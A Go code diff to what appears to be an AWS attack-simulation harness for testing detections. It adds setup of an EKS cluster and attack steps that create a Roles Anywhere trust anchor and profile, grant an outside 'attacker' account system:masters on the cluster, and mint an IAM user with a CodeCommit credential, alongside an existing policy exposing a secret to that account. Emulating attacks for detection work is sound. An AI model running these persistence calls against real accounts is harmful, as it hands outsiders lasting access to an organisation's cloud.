@@ -9,12 +9,16 @@ import (
 	"github.com/aws/aws-sdk-go-v2/aws"
 	"github.com/aws/aws-sdk-go-v2/service/ec2"
 	ec2types "github.com/aws/aws-sdk-go-v2/service/ec2/types"
+	"github.com/aws/aws-sdk-go-v2/service/eks"
+	ekstypes "github.com/aws/aws-sdk-go-v2/service/eks/types"
 	"github.com/aws/aws-sdk-go-v2/service/iam"
 	"github.com/aws/aws-sdk-go-v2/service/kms"
 	kmstypes "github.com/aws/aws-sdk-go-v2/service/kms/types"
 	"github.com/aws/aws-sdk-go-v2/service/lambda"
 	lambdatypes "github.com/aws/aws-sdk-go-v2/service/lambda/types"
 	"github.com/aws/aws-sdk-go-v2/service/rds"
+	"github.com/aws/aws-sdk-go-v2/service/rolesanywhere"
+	ratypes "github.com/aws/aws-sdk-go-v2/service/rolesanywhere/types"
 	"github.com/aws/aws-sdk-go-v2/service/s3"
 	s3types "github.com/aws/aws-sdk-go-v2/service/s3/types"
 	"github.com/aws/aws-sdk-go-v2/service/sagemaker"
@@ -30,7 +34,7 @@ import (
 // Names of the techniques scenario.
 const (
 	TechUser        = "platform-admin"
-	TechOutsider    = "999988887777" // the attacker's own account, outside the organisation
+	TechOutsider    = world.AttackerAccount // the attacker's own account, outside the organisation
 	techData        = "customer-data"
 	techReports     = "platform-reports"
 	techFunction    = "billing-export"
@@ -42,6 +46,8 @@ const (
 	techDatabase    = "orders-db"
 	techDBSnapshot  = "orders-db-nightly"
 	techAnalyst     = "analyst"
+	techCluster     = "prod"
+	techGitUser     = "svc-git"
 )
 
 var (
@@ -98,7 +104,8 @@ func (s *techniques) setup(ctx context.Context, r *Run) error {
 		content{"exports/customers.csv", []byte("id,email\n1,a@example.com\n"), true},
 		content{"exports/invoices.csv", []byte("id,amount\n1,10\n"), true},
 		content{"exports/summary.json", []byte(`{"rows":2}`), false},
-		content{"README.md", []byte("# customer data\n"), false}); err != nil {
+		content{"README.md", []byte("# customer data\n"), false},
+		content{"public/pricing.json", []byte(`{"plans":[]}`), false}); err != nil {
 		return err
 	}
 	if err := b.function(ctx, "us-east-1", techFunction); err != nil {
@@ -152,6 +159,11 @@ func (s *techniques) setup(ctx context.Context, r *Run) error {
 	if _, err := ssm.NewFromConfig(b.cfg("us-east-1")).PutParameter(ctx, &ssm.PutParameterInput{Name: aws.String(techParameter),
 		Type: ssmtypes.ParameterTypeSecureString, Value: aws.String("sk_live_not_a_real_key_1111")}); err != nil {
 		return fmt.Errorf("put parameter: %w", err)
+	}
+	if _, err := eks.NewFromConfig(b.cfg("us-east-1")).CreateCluster(ctx, &eks.CreateClusterInput{Name: aws.String(techCluster),
+		RoleArn:            aws.String("arn:aws:iam::" + world.DefaultAccount + ":role/eks-cluster"),
+		ResourcesVpcConfig: &ekstypes.VpcConfigRequest{SubnetIds: []string{"subnet-0a1b2c3d"}}}); err != nil {
+		return fmt.Errorf("create cluster: %w", err)
 	}
 	if _, err := b.role(ctx, techRole, trustPrincipals("arn:aws:iam::"+world.DefaultAccount+":root"), time.Hour, nil,
 		"arn:aws:iam::aws:policy/PowerUserAccess"); err != nil {
@@ -321,6 +333,31 @@ func (s *techniques) attack(ctx context.Context, r *Run) error {
 	call("the secret's policy", func(ctx context.Context) error {
 		_, err := secretsmanager.NewFromConfig(cfg()).PutResourcePolicy(ctx, &secretsmanager.PutResourcePolicyInput{SecretId: aws.String(techSecret),
 			ResourcePolicy: aws.String(document(stmt{Effect: "Allow", Principal: map[string]any{"AWS": outside}, Action: "secretsmanager:GetSecretValue", Resource: "*"}))})
+		return err
+	})
+	call("a Roles Anywhere trust anchor", func(ctx context.Context) error {
+		_, err := rolesanywhere.NewFromConfig(cfg()).CreateTrustAnchor(ctx, &rolesanywhere.CreateTrustAnchorInput{Name: aws.String("ops-ca"), Enabled: aws.Bool(true),
+			Source: &ratypes.Source{SourceType: ratypes.TrustAnchorTypeCertificateBundle,
+				SourceData: &ratypes.SourceDataMemberX509CertificateData{Value: "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUK\n-----END CERTIFICATE-----"}}})
+		return err
+	})
+	call("a Roles Anywhere profile", func(ctx context.Context) error {
+		_, err := rolesanywhere.NewFromConfig(cfg()).CreateProfile(ctx, &rolesanywhere.CreateProfileInput{Name: aws.String("ops"), Enabled: aws.Bool(true),
+			RoleArns: []string{"arn:aws:iam::" + world.DefaultAccount + ":role/" + techRole}})
+		return err
+	})
+	call("cluster access for its own role", func(ctx context.Context) error {
+		_, err := eks.NewFromConfig(cfg()).CreateAccessEntry(ctx, &eks.CreateAccessEntryInput{ClusterName: aws.String(techCluster),
+			PrincipalArn: aws.String("arn:aws:iam::" + TechOutsider + ":role/ops"), KubernetesGroups: []string{"system:masters"}})
+		return err
+	})
+	call("a git user", func(ctx context.Context) error {
+		_, err := iam.NewFromConfig(cfg()).CreateUser(ctx, &iam.CreateUserInput{UserName: aws.String(techGitUser)})
+		return err
+	})
+	call("a git credential", func(ctx context.Context) error {
+		_, err := iam.NewFromConfig(cfg()).CreateServiceSpecificCredential(ctx, &iam.CreateServiceSpecificCredentialInput{UserName: aws.String(techGitUser),
+			ServiceName: aws.String("codecommit.amazonaws.com")})
 		return err
 	})
 	// Data.
